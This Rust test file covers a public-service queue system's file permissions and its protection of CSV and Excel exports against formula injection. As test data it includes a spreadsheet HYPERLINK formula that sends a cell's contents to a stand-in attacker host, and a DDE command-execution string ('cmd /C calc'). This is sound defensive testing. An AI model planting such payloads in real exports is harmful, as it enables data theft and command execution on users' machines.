//! What the hall leaves on disk and hands out as files (issue 12, "Browser and data"):
//! - run outside the shipped systemd unit (umask `0022`), the database, its journals,
//!   backups and the city's key were readable by every account on the box: now the data
//!   directory is `0700` and every file `0600`, made so and tightened at start;
//! - the CSV and Excel exports wrote a clerk named `=HYPERLINK(...)` as a formula for the
//!   manager's spreadsheet program to run: now text that starts like a formula is
//!   neutralised with a leading `'`, and the figures stay numbers.

use motcua_domain::{DeviceKind, Role};
use motcua_hall::config::Settings;
use motcua_store::clock::ManualClock;
use motcua_tests::{TestHall, opening_time};
use serde_json::json;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::Arc;

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .permissions()
        .mode()
        & 0o777
}

/// A parent folder anyone may write in, as `/tmp` is: nothing of ours may inherit that.
fn open_parent() -> tempfile::TempDir {
    let root = tempfile::tempdir().expect("temp dir");
    std::fs::set_permissions(root.path(), std::fs::Permissions::from_mode(0o777)).expect("chmod");
    root
}

fn wire(data: &Path) -> motcua_hall::http::AppState {
    let settings = Settings::default();
    let hall = settings.hall().expect("valid settings");
    motcua_hall::wire(
        &settings,
        hall,
        data,
        Arc::new(ManualClock::starting_at(opening_time())),
    )
    .expect("open the hall")
}

fn database_files(data: &Path) -> Vec<std::path::PathBuf> {
    ["motcua.sqlite3", "motcua.sqlite3-wal", "motcua.sqlite3-shm"]
        .iter()
        .map(|f| data.join(f))
        .collect()
}

#[tokio::test]
async fn a_new_halls_database_journals_and_backups_are_for_the_servers_user_only() {
    let root = open_parent();
    let data = root.path().join("motcua-data");
    // Opening it writes (the schema): the journal and its index exist too.
    let state = wire(&data);
    assert_eq!(mode(&data), 0o700, "the data dir");
    for file in database_files(&data) {
        assert_eq!(mode(&file), 0o600, "{}", file.display());
    }

    // A backup into a folder the command makes, and one into a folder that exists.
    let out = root.path().join("backups/hall.sqlite3");
    motcua_store::backup::backup(&data, &out).expect("backup");
    assert_eq!(mode(&out), 0o600, "the backup");
    assert_eq!(
        mode(out.parent().expect("dir")),
        0o700,
        "the backups' folder"
    );
    let beside = root.path().join("hall-copy.sqlite3");
    motcua_store::backup::backup(&data, &beside).expect("backup");
    assert_eq!(mode(&beside), 0o600, "the backup");
    assert_eq!(
        mode(root.path()),
        0o777,
        "a folder the operator chose stays as it was"
    );
    drop(state);
}

#[tokio::test]
async fn a_data_dir_left_open_is_closed_when_the_hall_starts_again() {
    let root = open_parent();
    let data = root.path().join("motcua-data");
    let first = wire(&data);
    // Someone copied the files around by hand, or an old release made them.
    std::fs::set_permissions(&data, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    for file in database_files(&data) {
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    }
    let again = wire(&data);
    assert_eq!(mode(&data), 0o700, "the data dir");
    for file in database_files(&data) {
        assert_eq!(mode(&file), 0o600, "{}", file.display());
    }
    drop((first, again));
}

#[tokio::test]
async fn the_citys_database_and_key_are_for_its_user_only() {
    let root = open_parent();
    let data = root.path().join("city-data");
    let clock = Arc::new(ManualClock::starting_at(opening_time()));
    let sqlite = motcua_city::db::Database::Sqlite;
    let state = motcua_city::build_state(&data, &sqlite, clock.clone(), Default::default())
        .await
        .expect("open the collector");
    assert_eq!(mode(&data), 0o700, "the data dir");
    assert_eq!(mode(&data.join("city.key")), 0o600, "the master key");
    let databases: Vec<_> = std::fs::read_dir(&data)
        .expect("list")
        .map(|e| e.expect("entry").path())
        .filter(|p| p.to_string_lossy().contains(".sqlite3"))
        .collect();
    assert!(!databases.is_empty(), "the collector's database is there");
    for file in &databases {
        assert_eq!(mode(file), 0o600, "{}", file.display());
    }
    drop(state);

    std::fs::set_permissions(
        data.join("city.key"),
        std::fs::Permissions::from_mode(0o644),
    )
    .expect("chmod");
    let state = motcua_city::build_state(&data, &sqlite, clock, Default::default())
        .await
        .expect("reopen");
    assert_eq!(
        mode(&data.join("city.key")),
        0o600,
        "a key left readable is closed at start"
    );
    drop(state);
}

/// A formula in a name: a link that sends the neighbouring cell away when clicked.
const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?d=\"&C2,\"Bấm\")";

/// A day where the clerk with a formula for a name served a citizen who commented with
/// another formula; the manager then exports the figures.
async fn a_day_with_formulas() -> (TestHall, motcua_tests::Client) {
    let hall = TestHall::start().await;
    let kiosk = hall.device("kiosk-1", DeviceKind::Kiosk);
    let clerk = hall.clerk_at(FORMULA_NAME, 1).await;
    let manager = hall.staff("quanly", Role::Manager).await;
    let ticket = kiosk.issue("A", "none").await;
    let called = clerk.call_next(1).await.expect("a ticket");
    for action in ["start", "finish"] {
        let (status, body) = clerk.act(&called, action, json!({})).await;
        assert_eq!(status, 200, "{action}: {body}");
    }
    let (status, body) = hall
        .anonymous()
        .post(
            "/api/ratings",
            json!({"token": ticket["token"], "level": 5, "comment": "+cmd|' /C calc'!A0"}),
        )
        .await;
    assert_eq!(status, 201, "{body}");
    (hall, manager)
}

#[tokio::test]
async fn a_csv_export_shows_a_formula_in_a_name_as_text_and_figures_as_numbers() {
    let (_hall, manager) = a_day_with_formulas().await;
    let (status, _, bytes) = manager.get_bytes("/api/stats.csv?by=clerk").await;
    assert_eq!(status, 200);
    let text = String::from_utf8(bytes).expect("UTF-8");
    // The name has quotes and a comma, so the CSV quotes the cell and doubles its quotes.
    let escaped = FORMULA_NAME.replace('"', "\"\"");
    assert!(
        text.contains(&format!("\"'{escaped}\"")),
        "the name is prefixed with ': {text}"
    );
    assert!(
        !text.contains(&format!("\"{escaped}\"")) && !text.contains(&format!(",{FORMULA_NAME}")),
        "no cell starts with the formula: {text}"
    );
    let row = text
        .lines()
        .find(|l| l.contains("HYPERLINK"))
        .expect("the clerk's row");
    let after_name = row.rsplit("\"").next().expect("the figures");
    let figures: Vec<&str> = after_name.split(',').skip(1).collect();
    assert!(figures.contains(&"1"), "served 1, as a plain number: {row}");
    // The one column of words is our own: what the Decision 766 index was counted on.
    assert!(
        figures.iter().all(|f| f.is_empty()
            || f.parse::<f64>().is_ok()
            || ["hồ sơ", "lượt phục vụ"].contains(f)),
        "every figure a number: {row}"
    );
}

#[tokio::test]
async fn an_excel_export_shows_formulas_in_names_and_comments_as_text() {
    use calamine::{Data, Reader, Xlsx};
    let (_hall, manager) = a_day_with_formulas().await;
    let (status, _, bytes) = manager.get_bytes("/api/stats.xlsx").await;
    assert_eq!(status, 200);
    let mut book = Xlsx::new(std::io::Cursor::new(bytes)).expect("a workbook");

    let clerks = book
        .worksheet_range("Theo cán bộ")
        .expect("the clerks' sheet");
    let row = clerks
        .rows()
        .find(|r| r.iter().any(|c| c.to_string().contains("HYPERLINK")))
        .expect("the clerk's row");
    assert_eq!(
        row[1],
        Data::String(format!("'{FORMULA_NAME}")),
        "the name as text: {row:?}"
    );
    assert!(
        row[2..]
            .iter()
            .any(|c| matches!(c, Data::Float(x) if *x == 1.0)),
        "served 1, a number: {row:?}"
    );

    let comments = book.worksheet_range("Góp ý").expect("the comments' sheet");
    let row = comments.rows().nth(1).expect("one comment");
    assert_eq!(row[3], Data::String(format!("'{FORMULA_NAME}")), "{row:?}");
    assert_eq!(
        row[5],
        Data::String("'+cmd|' /C calc'!A0".into()),
        "{row:?}"
    );
    assert!(matches!(row[4], Data::Float(x) if x == 5.0), "{row:?}");
    for sheet in ["Theo cán bộ", "Góp ý"] {
        let formulas = book.worksheet_formula(sheet).expect("formulas");
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{sheet}: no formula"
        );
    }
}
